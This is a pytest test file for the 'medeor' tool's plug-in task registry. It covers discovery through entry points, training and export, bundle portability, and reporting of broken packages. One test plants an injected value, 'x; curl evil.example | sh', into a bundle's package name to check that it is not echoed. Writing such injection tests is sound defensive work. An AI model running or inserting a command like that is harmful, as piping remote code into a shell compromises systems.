"""Tasks that another package adds by an entry point, as an installed distribution states it."""

from __future__ import annotations

import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import polars as pl
import pytest

import medeor
from medeor import registry
from medeor.contracts import Study, UserError
from medeor.road.task_detection import task_of
from tiny import Said
from tiny import medeor as command

FACTS = '''
"""A score of beds from a table of wards."""
from medeor.contracts import FileFacts, Offer, TaskFacts

WARDS = FileFacts(endings=(".ward",), columns=("ward",))
TASKS = (
    TaskFacts(
        "ward-score", "how full a ward will be", "wardscore.task:WardTask", "", "tables with a column ward",
        {"beds": "column of the beds"}, formats=("wardscore.facts:WARDS",),
        offers=(
            Offer("rule", "file", "the rule as text", "wardscore.task:write_rule", {"digits": "after the point"},
                  (".txt",)),
        ),
    ),
)
LOADERS = {"ward-rule": "wardscore.task:load"}
'''
TASK = '''
from dataclasses import dataclass

import polars as pl

from medeor.contracts import Cases, Fitted, Measure, Predictions, Target
from medeor.files import read_json, write_json


@dataclass(frozen=True)
class WardPlan:
    """Nothing to choose."""

    share: float = 0.5


@dataclass(frozen=True)
class Rule:
    """The mean of what was seen."""

    mean: float
    holds_training_values = False

    def fit(self, cases, split, inputs, run):
        model = Rule(cases.table["full"].mean())
        model.save(run.folder)
        return Fitted(model, Predictions(model.predict(cases, run).table.clear()))

    def predict(self, cases, run):
        return Predictions(cases.table.select("case_id", item=pl.lit("full"), value=pl.lit(self.mean)))

    def save(self, folder):
        folder.mkdir(parents=True, exist_ok=True)
        write_json(folder / "model.json", {"kind": "ward-rule", "mean": self.mean})


def load(folder):
    return Rule(read_json(folder / "model.json")["mean"])


def write_rule(asked, path, options):
    path.write_text(f"{asked.model.mean:.{options['digits']}f}")
    return "a rule of thumb"


class WardTask:
    steps = ("read", "split", "plan", "fit", "bundle")
    plan_type = WardPlan

    def read(self, sources, study):
        (table,) = sources.given
        names = pl.Series([f"w{i}" for i in range(table.height)])
        return Cases(table.with_columns(case_id=names, group=names), (Target("full", "continuous"),))

    def plan(self, cases, split, budget):
        return WardPlan()

    def method(self, plan):
        return Rule(0.0)
'''


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., Path]]:
    """Writes a distribution into a folder of packages, which the interpreter then finds; nothing of it stays."""
    site = tmp_path / "site"
    before = set(sys.modules)

    def install(package: str = "wardscore", facts: str = FACTS, task: str = TASK, value: str = "") -> Path:
        folder, facts_of = site / package, site / f"{package}-1.0.dist-info"
        for place, text in (
            (folder / "__init__.py", ""),
            (folder / "facts.py", facts.replace("wardscore", package)),
            (folder / "task.py", task),
            (facts_of / "METADATA", f"Metadata-Version: 2.1\nName: {package}-tasks\nVersion: 1.0\n"),
            (facts_of / "entry_points.txt", f"[medeor.tasks]\n{package} = {value or f'{package}.facts'}\n"),
        ):
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)
        registry.plug_ins.cache_clear()
        return site

    monkeypatch.syspath_prepend(str(site))
    yield install
    for name in set(sys.modules) - before:
        if not name.startswith("medeor"):
            del sys.modules[name]
    registry.plug_ins.cache_clear()


WARDS = pl.DataFrame({"ward": ["a", "b", "c", "d"], "full": [0.25, 0.5, 0.75, 1.0]})


def test_a_task_of_another_package_is_listed_recognised_trained_and_used(
    installed: Callable[..., Path], tmp_path: Path
) -> None:
    installed()
    said = command("tasks")
    assert "ward-score: how full a ward will be" in said.out
    assert "  needs pip install wardscore-tasks\n" in said.out
    assert "  export --as rule FILE.txt  the rule as text\n" in said.out
    assert "image-classification" in said.out
    WARDS.write_csv(tmp_path / "wards.csv")
    (tmp_path / "x.ward").write_text("")
    assert {task_of(Study((source,))) for source in (WARDS, str(tmp_path / "x.ward"))} == {"ward-score"}
    with pytest.raises(UserError, match=r"ward-score has no option 'bed'; --option takes beds \(column of the beds\)"):
        medeor.plan(WARDS, task="ward-score", options={"bed": "x"})
    run = medeor.train(WARDS, task="ward-score", split="group", out=tmp_path / "run")
    bundle = tmp_path / "run" / "run.medeor"
    with zipfile.ZipFile(bundle) as opened:
        assert json.loads(opened.read("manifest.json"))["package"] == "wardscore-tasks"
    assert medeor.load(bundle).predict(WARDS).equals(run.predict(WARDS))
    wrote = command("export", bundle, "--as", "rule", tmp_path / "rule.txt", "--option", "digits=3")
    assert wrote.code == 0, wrote.err
    assert "a rule of thumb" in wrote.err
    assert float((tmp_path / "rule.txt").read_text()) == pytest.approx(run.predict(WARDS)["value"][0], abs=1e-3)


def test_its_bundle_opens_only_where_the_package_is_installed(
    installed: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = installed()
    medeor.train(WARDS, task="ward-score", split="group", out=tmp_path / "run")
    monkeypatch.setattr(sys, "path", [place for place in sys.path if place != str(site)])
    registry.plug_ins.cache_clear()
    said = command("predict", tmp_path / "run" / "run.medeor", "x.csv")
    assert said.code == 2
    assert len(said.err.splitlines()) == 1
    assert "'ward-score'" in said.err
    assert "pip install wardscore-tasks" in said.err
    run = command("predict", tmp_path / "run", "x.csv")
    assert "no task is called 'ward-score'; the tasks are image-classification" in run.err
    with zipfile.ZipFile(tmp_path / "run" / "run.medeor") as old, zipfile.ZipFile(tmp_path / "b.medeor", "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"wardscore-tasks", b"x; curl evil.example | sh"))
    assert "evil" not in command("predict", tmp_path / "b.medeor", "x.csv").err


BROKEN = {
    "import": ("import nothing_of_this_name\n", "ModuleNotFoundError: No module named 'nothing_of_this_name'"),
    "fault": ("1 / 0\n", "ZeroDivisionError: division by zero"),
    "exit": ("raise SystemExit('bye')\n", "SystemExit: bye"),
    "empty": ("", "has no attribute 'TASKS'"),
    "no facts": ("TASKS = ({'name': 'x'},)\n", "its TASKS are no contracts.TaskFacts"),
    "taken": (FACTS.replace("ward-score", "image-classification"), "cannot be called 'image-classification'"),
    "name": (FACTS.replace("ward-score", "../x"), "cannot be called '../x'"),
    "kind": (FACTS.replace("ward-rule", "stack"), "the kind 'stack' of its LOADERS is that of another part"),
    "place": (FACTS.replace("wardscore.task:WardTask", "wardscore/task.py"), "'broken/task.py' is not of the form"),
    "offer": (FACTS.replace('"file"', '"film"'), "its offers are no contracts.Offer of the kinds question, page"),
    "formats": (FACTS.replace("facts:WARDS", "facts:TASKS"), "its formats name no contracts.FileFacts"),
    "options": (FACTS.replace('{"beds": "column of the beds"}', '"beds"'), "the options and inputs of a task are"),
}


@pytest.mark.parametrize("fault", BROKEN)
def test_a_broken_package_is_named_in_a_line_and_breaks_no_other_task(
    fault: str, installed: Callable[..., Path]
) -> None:
    facts, why = BROKEN[fault]
    installed()
    installed("broken", facts.replace("wardscore", "broken") if fault == "place" else facts)
    assert listed(command("tasks")) == [*registry.TASKS, "ward-score"]
    registry.plug_ins.cache_clear()
    said = command("tasks").err.splitlines()
    assert len(said) == 1
    assert said[0].startswith("medeor: the package broken-tasks adds no tasks (entry point broken = broken.facts): ")
    assert why in said[0]


def listed(said: Said) -> list[str]:
    """The names of the tasks that a command listed."""
    assert said.code == 0
    return [line.partition(":")[0] for line in said.out.splitlines() if not line.startswith(" ")]


def test_of_two_packages_with_one_task_the_first_keeps_it(installed: Callable[..., Path]) -> None:
    installed()
    installed("another", FACTS.replace("ward-rule", "other-rule"))
    said = command("tasks")
    assert "needs pip install another-tasks" in said.out
    assert "the package wardscore-tasks adds no tasks" in said.err


def test_a_task_whose_package_lacks_another_names_it(installed: Callable[..., Path]) -> None:
    installed(task="import no_such_library\n")
    with pytest.raises(UserError, match=r"ward-score needs the package no_such_library: pip install wardscore-tasks"):
        medeor.plan(WARDS, task="ward-score")


def test_packages_are_not_looked_at_for_what_medeor_knows_itself(
    installed: Callable[..., Path], tiny_run: Path, tiny_hospital: Path
) -> None:
    installed("broken", "1 / 0\n")
    assert task_of(Study((str(tiny_hospital / "images"),))) == "image-classification"
    medeor.load(tiny_run)
    assert command("predict", "--help").code == 0
    assert registry.plug_ins.cache_info().misses == 0
